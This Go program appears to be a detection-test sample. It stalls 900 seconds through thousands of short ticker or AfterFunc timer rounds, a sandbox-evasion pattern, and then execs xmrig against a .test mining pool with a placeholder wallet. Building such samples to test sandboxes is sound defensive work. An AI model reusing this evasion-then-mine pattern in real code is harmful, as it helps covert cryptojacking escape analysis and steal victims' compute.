// Waits 900 s in sub-second rounds of Go's timers, then mines (detonate hold-out test sample;
// harmless, fake wallet, .test pool). The form is the first argument:
//
//	ticker     a time.NewTicker(200 ms) counted to 4,500 in a for/select
//	afterfunc  a chain of time.AfterFunc(150 ms), 6,000 links, main blocked
//	           on a sync.WaitGroup
package main

import (
	"fmt"
	"os"
	"sync"
	"syscall"
	"time"
)

const (
	pool   = "stratum+tcp://pool.loop.test:3333"
	wallet = "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8"
)

func ticker() {
	t := time.NewTicker(200 * time.Millisecond)
	defer t.Stop()
	done := time.NewTimer(time.Hour) // never fires first: a real loop's other case
	defer done.Stop()
	for n := 0; n < 4500; {
		select {
		case <-t.C:
			n++
		case <-done.C:
			return
		}
	}
}

func afterFunc() {
	var wg sync.WaitGroup
	wg.Add(1)
	left := 6000
	var link func()
	link = func() {
		left--
		if left == 0 {
			wg.Done()
			return
		}
		time.AfterFunc(150*time.Millisecond, link)
	}
	time.AfterFunc(150*time.Millisecond, link)
	wg.Wait()
}

func main() {
	forms := map[string]func(){"ticker": ticker, "afterfunc": afterFunc}
	wait, ok := forms[""]
	if len(os.Args) == 2 {
		wait, ok = forms[os.Args[1]]
	}
	if !ok {
		fmt.Fprintln(os.Stderr, "usage: goloop ticker|afterfunc")
		os.Exit(2)
	}
	fmt.Printf("waiting 900 s in %s rounds\n", os.Args[1])
	started := time.Now()
	wait()
	fmt.Printf("waited %.1f s; starting the miner\n", time.Since(started).Seconds())
	argv := []string{"xmrig", "-o", pool, "-u", wallet, "--shares", "1"}
	err := syscall.Exec("/usr/local/bin/xmrig", argv, os.Environ())
	fmt.Fprintln(os.Stderr, "exec /usr/local/bin/xmrig:", err)
	os.Exit(127)
}
